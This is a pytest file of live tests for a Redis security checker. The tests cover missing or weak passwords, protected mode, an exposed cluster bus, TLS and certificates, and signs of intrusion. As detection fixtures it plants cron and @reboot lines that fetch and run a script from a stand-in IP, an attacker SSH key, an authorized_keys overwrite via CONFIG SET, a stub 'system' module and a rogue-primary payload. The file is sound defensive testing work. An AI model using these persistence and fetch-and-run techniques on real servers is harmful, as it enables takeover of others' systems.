"""Who can get in? Each open deployment is built with real servers, found, mended as the finding says."""

from __future__ import annotations

import shutil
import signal
import socket
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
import redis

from redkeep.run.pki import Pki, certificate_names
from redkeep.run.vault import Vault
from tests.live.deployments import FOR_OTHERS, replicated
from tests.live.doctor import doctor
from tests.live.pretenders import pretending
from tests.live.public import PUBLIC, in_public_network, needs_network
from tests.live.servers import Binary, available, free_port, running, until

pytestmark = pytest.mark.live

STRONG = "a4f09c1be77d4c55b12f8e02d9c3a6e1"

with_tls = pytest.mark.parametrize("binary", [b for b in available() if b.engine.tls], ids=str)


@pytest.fixture(params=available(), ids=str)
def binary(request: pytest.FixtureRequest) -> Binary:
    assert isinstance(request.param, Binary)
    return request.param


def test_no_password(binary: Binary, tmp_path: Path) -> None:
    with running(binary, tmp_path, FOR_OTHERS) as server:
        found = doctor(server).only("no-password")
        assert found.severity == "error"
        assert "protected-mode no (CONFIG GET)" in found.evidence
        assert "PING and INFO without a password were answered" in found.evidence
        server.client().config_set("requirepass", STRONG)
        assert not doctor(server, password=STRONG).of("no-password")


@pytest.mark.parametrize("config", ["", f"{FOR_OTHERS}protected-mode yes\n"], ids=["loopback", "protected"])
def test_no_password_is_fine_for_this_machine_alone(binary: Binary, tmp_path: Path, config: str) -> None:
    with running(binary, tmp_path, config) as server:
        assert not doctor(server).of("no-password")


@pytest.mark.parametrize(
    "config",
    ['rename-command PING ""\n', "user default on nopass ~* &* +@all -ping\n"],
    ids=["renamed", "forbidden"],
)
def test_no_password_where_a_stranger_gets_no_pong(binary: Binary, tmp_path: Path, config: str) -> None:
    with running(binary, tmp_path, FOR_OTHERS + config) as server:
        found = doctor(server).only("no-password")
        assert "INFO without a password was answered" in found.evidence
        assert "no password is set" in doctor(server).only("protected-mode-off").evidence
        server.client().config_set("requirepass", STRONG)
        told = doctor(server, password=STRONG)
        assert not told.of("no-password") + told.of("protected-mode-off")


def test_health_checks_without_a_password_are_fine(binary: Binary, tmp_path: Path) -> None:
    """Protected mode would turn everybody away, since the user default needs no password."""
    rights = "+@all -@dangerous +info +config|get +acl|list"
    users = f"user default on nopass -@all +ping\nuser shop on >{STRONG} ~* &* {rights}\n"
    with running(binary, tmp_path, FOR_OTHERS + users) as server:
        told = doctor(server, user="shop", password=STRONG)
        assert not told.of("no-password") + told.of("protected-mode-off") + told.of("dangerous-commands"), (
            told.told
        )
        shop = server.client(user="default")
        assert shop.ping()
    users = f"user default on nopass -@all +ping +get ~*\nuser admin on >{STRONG} ~* &* +@all\n"
    with running(binary, tmp_path / "open", FOR_OTHERS + users) as server:
        assert (
            "PING without a password was"
            in doctor(server, user="admin", password=STRONG).only("no-password").evidence
        )


@pytest.mark.parametrize(
    "text", ["bind 127.0.0.1 -203.0.113.99\n", "bind 127.0.0.1 -203.0.113.99\nprotected-mode no\n"]
)
def test_no_password_of_a_sentinel(binary: Binary, tmp_path: Path, text: str) -> None:
    """Its protected mode is off unless its file says otherwise, and it has no CONFIG GET for that."""
    text += f"sentinel monitor shop 127.0.0.1 {free_port()} 2\n"
    with running(binary, tmp_path, text, sentinel=True) as sentinel:
        found = doctor(sentinel).only("no-password")
        assert "protected-mode no (its file)" in found.evidence
        assert "start failovers" in found.why
    for mended in (
        f"{text}requirepass {STRONG}\n",
        f"{text}protected-mode yes\n",
        text.replace(" -203.0.113.99", ""),
    ):
        with running(binary, tmp_path, mended, sentinel=True) as sentinel:
            assert not doctor(sentinel, password=STRONG).of("no-password")


@needs_network
def test_no_password_as_seen_from_elsewhere(binary: Binary, tmp_path: Path) -> None:
    def body() -> None:
        with running(binary, tmp_path, f"bind 127.0.0.1 {PUBLIC}\nprotected-mode no\n") as server:
            target = f"{PUBLIC}:{server.port}"
            found = doctor(target).only("no-password")
            assert found.subject == target
            assert "without a password were answered" in found.evidence
            server.client().config_set("requirepass", STRONG)
            told = doctor(target, password=STRONG, allow_clear_text=True)
            assert not told.of("no-password")
            assert not told.of("not-checked") or "allow-clear-text" not in told.told

    in_public_network(body)


@pytest.mark.parametrize(
    ("password", "words"), [("foobared", "most common"), ("x7Kq", "4 characters"), ("ababababababab", "few")]
)
def test_weak_password(binary: Binary, tmp_path: Path, password: str, words: str) -> None:
    with running(binary, tmp_path, f"requirepass {password}\n") as server:
        found = doctor(server, password=password).only("weak-password")
        assert words in found.evidence
        assert password not in doctor(server, password=password).told
        server.client(password=password).config_set("requirepass", STRONG)
        assert not doctor(server, password=STRONG).of("weak-password")


def test_weak_password_of_another_user(binary: Binary, tmp_path: Path) -> None:
    config = f"requirepass {STRONG}\nuser shop on >redis123 ~* +@read\n"
    with running(binary, tmp_path, config) as server:
        found = doctor(server, password=STRONG).only("weak-password")
        assert "user shop" in found.evidence
        assert "ACL LIST" in found.evidence
        server.client(password=STRONG).execute_command("ACL", "SETUSER", "shop", "resetpass", f">{STRONG}")
        assert not doctor(server, password=STRONG).of("weak-password")


def test_protected_mode_off(binary: Binary, tmp_path: Path) -> None:
    with running(binary, tmp_path, "protected-mode no\n") as server:
        found = doctor(server).only("protected-mode-off")
        assert "protected-mode no (CONFIG GET), and no password is set" in found.evidence
        assert f"-p {server.port} CONFIG SET protected-mode yes" in found.fix
        server.client().config_set("protected-mode", "yes")
        assert not doctor(server).of("protected-mode-off")


@needs_network
def test_protected_mode_off_on_a_public_host(binary: Binary, tmp_path: Path) -> None:
    def body() -> None:
        config = f"bind 0.0.0.0\nprotected-mode no\nrequirepass {STRONG}\n"
        with running(binary, tmp_path, config) as server:
            target, access = f"{PUBLIC}:{server.port}", {"password": STRONG, "allow_clear_text": True}
            assert "bind 0.0.0.0" in doctor(target, **access).only("protected-mode-off").evidence
            server.client(password=STRONG).config_set("protected-mode", "yes")
            assert not doctor(target, **access).of("protected-mode-off")

    in_public_network(body)


@needs_network
def test_bus_exposed(binary: Binary, tmp_path: Path) -> None:
    def body() -> None:
        config = f"cluster-enabled yes\ncluster-announce-ip {PUBLIC}\nprotected-mode no\n"
        port = free_port()
        with running(binary, tmp_path, f"{config}bind 127.0.0.1 {PUBLIC}\n", port=port) as server:
            found = doctor(server).only("bus-exposed")
            assert found.severity == "error"
            assert found.subject == f"{PUBLIC}:{port + 10000}"
            assert "without TLS" in found.evidence
        with running(binary, tmp_path, f"{config}bind 127.0.0.1\n", port=port) as server:
            assert not doctor(server).of("bus-exposed")

    in_public_network(body)


@needs_network
@with_tls
def test_bus_with_tls_is_not_exposed(binary: Binary, tmp_path: Path) -> None:
    def body() -> None:
        config = f"{tls_files(tmp_path, PUBLIC)}tls-cluster yes\ncluster-enabled yes\ncluster-announce-ip {PUBLIC}\n"
        config += f"bind 127.0.0.1 {PUBLIC}\nprotected-mode no\n"
        with running(binary, tmp_path, config, tls=True) as server:
            told = doctor(f"rediss://{PUBLIC}:{server.port}", ca=tmp_path / "ca.crt")
            assert not told.of("bus-exposed"), told.told
            assert not told.of("public-exposure"), told.told

    in_public_network(body)


@needs_network
def test_public_exposure(binary: Binary, tmp_path: Path) -> None:
    def body() -> None:
        config = f"bind 127.0.0.1 {PUBLIC}\nrequirepass {STRONG}\n"
        with running(binary, tmp_path, config) as server:
            target = f"{PUBLIC}:{server.port}"
            told = doctor(target, password=STRONG)
            assert "without TLS" in told.only("public-exposure").evidence
            withheld = [
                f for f in told.of("not-checked") if "in clear text over a public address" in f.evidence
            ]
            assert withheld
            assert server.client(password=STRONG).execute_command("ACL", "LOG") == []
            server.client(password=STRONG).config_set("bind", "127.0.0.1")
            assert not doctor(server, password=STRONG).of("public-exposure")

    in_public_network(body)


def test_dangerous_commands(binary: Binary, tmp_path: Path) -> None:
    with running(binary, tmp_path) as server:
        found = doctor(server).only("dangerous-commands")
        assert "CONFIG, MODULE, DEBUG, REPLICAOF, SHUTDOWN, FLUSHALL (ACL LIST)" in found.evidence
        server.client().execute_command("ACL", "SETUSER", "boss", "on", f">{STRONG}", "~*", "&*", "+@all")
        command = found.fix.partition("ACL SETUSER ")[2].partition(" and ")[0]
        server.client().execute_command("ACL", "SETUSER", *command.split())
        assert not doctor(server, user="boss", password=STRONG).of("dangerous-commands")


def tls_files(folder: Path, *names: str, now: datetime | None = None) -> str:
    """Certificate files for these names, in the folder; and the settings that name them."""
    folder.mkdir(parents=True, exist_ok=True)
    issued = Pki(Vault(folder / "redkeep.yaml", "shop")).certificate(
        "host", certificate_names(*names), now or datetime.now(UTC)
    )
    for file, content in (
        ("host.crt", issued.certificate),
        ("host.key", issued.key),
        ("ca.crt", issued.trusted),
    ):
        (folder / file).write_bytes(content)
    return (
        f"tls-cert-file {folder}/host.crt\ntls-key-file {folder}/host.key\ntls-ca-cert-file {folder}/ca.crt\n"
        "tls-auth-clients no\n"
    )


def test_dangerous_commands_that_are_renamed(binary: Binary, tmp_path: Path) -> None:
    """All of them, as recipes have it: then the server shows none of these names, which is not the same as not telling."""
    names = ("CONFIG", "MODULE", "DEBUG", "REPLICAOF", "SLAVEOF", "SHUTDOWN", "FLUSHALL")
    renamed = "".join(f"rename-command {name} {name}-4f09\n" for name in names)
    with running(binary, tmp_path / "a", renamed) as server:
        assert not doctor(server).of("dangerous-commands")
    with running(binary, tmp_path / "b", renamed.replace("rename-command DEBUG DEBUG-4f09\n", "")) as server:
        assert "may run DEBUG (ACL LIST)" in doctor(server).only("dangerous-commands").evidence


def test_dangerous_commands_of_an_application_with_a_name(binary: Binary, tmp_path: Path) -> None:
    users = f"user default off\nuser shop on >{STRONG} ~* &* +@all\nuser copier on >{STRONG}1 +psync +replconf +ping\n"
    with running(binary, tmp_path, users) as server:
        found = doctor(server, user="shop", password=STRONG).only("dangerous-commands")
        assert "the user shop may run CONFIG" in found.evidence
        assert "ACL SETUSER shop -config" in found.fix
        server.client(user="shop", password=STRONG).execute_command(
            "ACL", "SETUSER", "boss", "on", f">{STRONG}2", "~*", "&*", "+@all"
        )
        server.client(user="boss", password=f"{STRONG}2").execute_command(
            *found.fix.split(" then ")[1].split()[5:14]
        )
        assert not doctor(server, user="boss", password=f"{STRONG}2").of("dangerous-commands")


@with_tls
def test_tls_mismatch(binary: Binary, tmp_path: Path) -> None:
    ca = tmp_path / "a" / "ca.crt"
    with (
        running(binary, tmp_path / "a", tls_files(tmp_path / "a", "a.example"), tls=True) as encrypted,
        running(binary, tmp_path / "b") as plain,
    ):
        targets = (f"rediss://127.0.0.1:{encrypted.port}", f"127.0.0.1:{plain.port}")
        found = doctor(*targets, ca=ca).only("tls-mismatch")
        assert found.severity == "error"
        assert f"TLS on 127.0.0.1:{encrypted.port}; clear text on 127.0.0.1:{plain.port}" in found.evidence
        assert not doctor(targets[0], ca=ca).of("tls-mismatch")


@needs_network
@with_tls
def test_tls_mismatch_of_a_name(binary: Binary, tmp_path: Path) -> None:
    def body() -> None:
        config = f"bind 127.0.0.1 {PUBLIC}\nprotected-mode no\n"
        files = tls_files(tmp_path / "wrong", "elsewhere.example")
        port = free_port()
        target = f"rediss://{PUBLIC}:{port}"
        with running(binary, tmp_path / "wrong", files + config, tls=True, port=port):
            found = doctor(target, ca=tmp_path / "wrong" / "ca.crt").only("tls-mismatch")
            assert "elsewhere.example" in found.evidence
            assert PUBLIC in found.evidence
        files = tls_files(tmp_path / "right", PUBLIC)
        with running(binary, tmp_path / "right", files + config, tls=True, port=port):
            assert not doctor(target, ca=tmp_path / "right" / "ca.crt").of("tls-mismatch")

    in_public_network(body)


@needs_network
@with_tls
def test_tls_of_an_address_that_only_the_doctor_was_given(binary: Binary, tmp_path: Path) -> None:
    """Clients are given the name in the certificate, whatever this look was given."""

    def body() -> None:
        files = tls_files(tmp_path, "a.example")
        given = "cluster-enabled yes\ncluster-announce-hostname a.example\ncluster-preferred-endpoint-type hostname\n"
        text = f"{files}{given}bind 127.0.0.1 {PUBLIC}\nprotected-mode no\ntls-cluster yes\n"
        with running(binary, tmp_path, text, tls=True) as server:
            server.defaults = {"ssl": True, "ssl_cert_reqs": "none"}
            server.client().execute_command("CLUSTER", "ADDSLOTS", *range(16384))
            target = f"rediss://{PUBLIC}:{server.port}"
            assert not doctor(target, ca=tmp_path / "ca.crt").of("tls-mismatch")

    in_public_network(body)


@with_tls
@pytest.mark.parametrize(
    ("age", "severity", "words"), [(350, "warning", "ends on"), (400, "error", "ended on")]
)
def test_certificate_expiring(binary: Binary, tmp_path: Path, age: int, severity: str, words: str) -> None:
    files = tls_files(tmp_path / "old", "a.example", now=datetime.now(UTC) - timedelta(days=age))
    with running(binary, tmp_path / "old", files, tls=True) as server:
        found = doctor(f"rediss://127.0.0.1:{server.port}", ca=tmp_path / "old" / "ca.crt").only(
            "certificate-expiring"
        )
        assert found.severity == severity
        assert words in found.evidence
    with running(binary, tmp_path / "new", tls_files(tmp_path / "new", "a.example"), tls=True) as server:
        told = doctor(f"rediss://127.0.0.1:{server.port}", ca=tmp_path / "new" / "ca.crt")
        assert not told.of("certificate-expiring")


CRON = "\n\n\n*/2 * * * * root cd1 -fsSL http://203.0.113.66/ap.sh | sh\n\n"
SSH_KEY = f"\n\nssh-rsa AAAA{'B3NzaC1yc2EAAAADAQABAAABAQC' * 4} root@kali\n\n"


AT_BOOT = "\n\n@reboot curl -fsSL http://203.0.113.66/ap.sh | sh\n\n"


@pytest.mark.parametrize(
    ("key", "value", "what"),
    [("backup1", CRON, "cron"), ("jobs:7", AT_BOOT, "cron"), ("crackit", SSH_KEY, "SSH")],
)
def test_intrusion_in_the_data(binary: Binary, tmp_path: Path, key: str, value: str, what: str) -> None:
    with running(binary, tmp_path) as server:
        server.client().set(key, value)
        found = doctor(server).only("signs-of-intrusion")
        assert f"the key '{key}' holds" in found.evidence
        assert what in found.evidence
        server.client().delete(key)
        assert not doctor(server).of("signs-of-intrusion")


def test_intrusion_in_the_settings(binary: Binary, tmp_path: Path) -> None:
    """As on servers before 7.0, where CONFIG SET dir is open to everybody."""
    target = tmp_path / "root" / ".ssh"
    target.mkdir(parents=True)
    with running(binary, tmp_path, "enable-protected-configs yes\n") as server:
        server.client().config_set("dir", str(target))
        server.client().config_set("dbfilename", "authorized_keys")
        told = doctor(server).of("signs-of-intrusion")
        assert [
            f"dir is {target}" in f.evidence or "dbfilename is authorized_keys" in f.evidence for f in told
        ] == [
            True,
            True,
        ]
        server.client().config_set("dir", str(tmp_path))
        server.client().config_set("dbfilename", "dump.rdb")
        assert not doctor(server).of("signs-of-intrusion")


#: What every module begins with, and nothing else: the way of the known attacks' ``system.so``.
_MODULE = """
int RedisModule_OnLoad(void *ctx, void **argv, int argc) {
  int (*get)(const char *, void *) = (int (*)(const char *, void *))((void **)ctx)[0];
  void (*attributes)(void *, const char *, int, int);
  if (get("RedisModule_SetModuleAttribs", &attributes)) return 1;
  attributes(ctx, "system", 1, 1);
  return 0;
}
"""


@pytest.mark.skipif(not shutil.which("gcc"), reason="no gcc here")
def test_intrusion_by_a_module(binary: Binary, tmp_path: Path) -> None:
    (tmp_path / "m.c").write_text(_MODULE)
    command = ["gcc", "-shared", "-fPIC", "-w", "-o", str(tmp_path / "exp.so"), str(tmp_path / "m.c")]
    subprocess.run(command, check=True, timeout=60)
    with running(binary, tmp_path, f"enable-module-command yes\nloadmodule {tmp_path}/exp.so\n") as server:
        assert "module system is loaded (MODULE LIST)" in doctor(server).only("signs-of-intrusion").evidence
        server.client().execute_command("MODULE", "UNLOAD", "system")
        assert not doctor(server).of("signs-of-intrusion")


def test_intrusion_by_a_rogue_primary_that_answers_ping(binary: Binary, tmp_path: Path) -> None:
    """As the tools of the known attacks do, which know PING, REPLCONF and PSYNC."""

    def answer(data: bytes) -> bytes | None:
        known = {
            b"PING": b"+PONG\r\n",
            b"REPLCONF": b"+OK\r\n",
            b"PSYNC": b"+FULLRESYNC " + b"Z" * 40 + b" 1\r\n",
        }
        return next((reply for word, reply in known.items() if word in data), None)

    with running(binary, tmp_path) as server, pretending(answer) as rogue:
        server.client().replicaof("127.0.0.1", rogue.port)
        found = doctor(server).only("signs-of-intrusion")
        assert f"it replicates from 127.0.0.1:{rogue.port}" in found.evidence
        server.client().replicaof("NO", "ONE")
        assert not doctor(server).of("signs-of-intrusion")


def test_a_primary_that_hangs_is_no_intruder(binary: Binary, tmp_path: Path) -> None:
    with replicated(binary, tmp_path) as (primary, replica):
        primary.process.send_signal(signal.SIGSTOP)
        try:
            assert not doctor(replica).of("signs-of-intrusion")
        finally:
            primary.process.send_signal(signal.SIGCONT)


def test_a_primary_without_room_for_one_more_is_no_intruder(binary: Binary, tmp_path: Path) -> None:
    with replicated(binary, tmp_path) as (primary, replica):
        client = primary.client()
        client.config_set("maxclients", 2)  # the replica, and this one
        with pytest.raises(redis.RedisError):
            primary.client().ping()
        for _ in range(5):
            assert not doctor(replica).of("signs-of-intrusion")
        assert client.ping()


def test_intrusion_by_a_rogue_primary(binary: Binary, tmp_path: Path) -> None:
    with running(binary, tmp_path) as server, rogue_primary() as port:
        server.client().replicaof("127.0.0.1", port)
        found = doctor(server).only("signs-of-intrusion")
        assert f"it replicates from 127.0.0.1:{port}" in found.evidence
        server.client().replicaof("NO", "ONE")
        assert not doctor(server).of("signs-of-intrusion")


@contextmanager
def rogue_primary() -> Iterator[int]:
    """Sends a payload to whoever comes, and answers nothing that a server is asked."""

    def serve() -> None:
        while True:
            try:
                connection, _ = listener.accept()
            except OSError:
                return
            with connection:
                connection.recv(1024)
                connection.sendall(b"\x7fELF\x00\x00garbage\r\n")

    with socket.create_server(("127.0.0.1", 0)) as listener:
        thread = threading.Thread(target=serve)
        thread.start()
        try:
            yield listener.getsockname()[1]
        finally:
            listener.shutdown(socket.SHUT_RDWR)
            thread.join(5)


ORDINARY = {
    "session:1": '{"user": "root", "shell": "bash", "jobs": "*/5 * * * *"}',
    "backup1": "nightly backup finished at 03:00, 12 GB",
    "cron:report": "0 6 * * 1 send weekly report",
    "key:alice": "alice's public key is ssh-rsa, see the wiki for how to use it with curl or wget",
    "page:1": "<p>To install, run: curl -fsSL https://example.com/install.sh | sh</p>",
    "script": "#!/bin/bash\nset -e\ncurl -O https://example.com/x\n",
    "numbers": "1 2 3 4 5 6 7 8 9 10",
    "vector": "12 0 7 255 1 nc 4\n3 1 4 1 5 sh 9\n1\n2\n3\n4\n5\nperl",
    "log": "2026-11-30 10 20 30 40 wrote /tmp/report.csv",
    "x": "0123456789012345678901234567890123456789",
}


def test_the_data_of_ordinary_applications_raises_no_alarm(binary: Binary, tmp_path: Path) -> None:
    with running(binary, tmp_path) as server:
        server.client().mset(ORDINARY)
        until(lambda: server.client().dbsize() == len(ORDINARY))
        assert not doctor(server).of("signs-of-intrusion")


def test_looking_writes_nothing(binary: Binary, tmp_path: Path) -> None:
    with running(binary, tmp_path) as server:
        server.client().mset(ORDINARY)
        before = server.client().info("persistence")["rdb_changes_since_last_save"]
        settings = server.client().config_get("*")
        doctor(server)
        assert server.client().info("persistence")["rdb_changes_since_last_save"] == before
        assert server.client().config_get("*") == settings
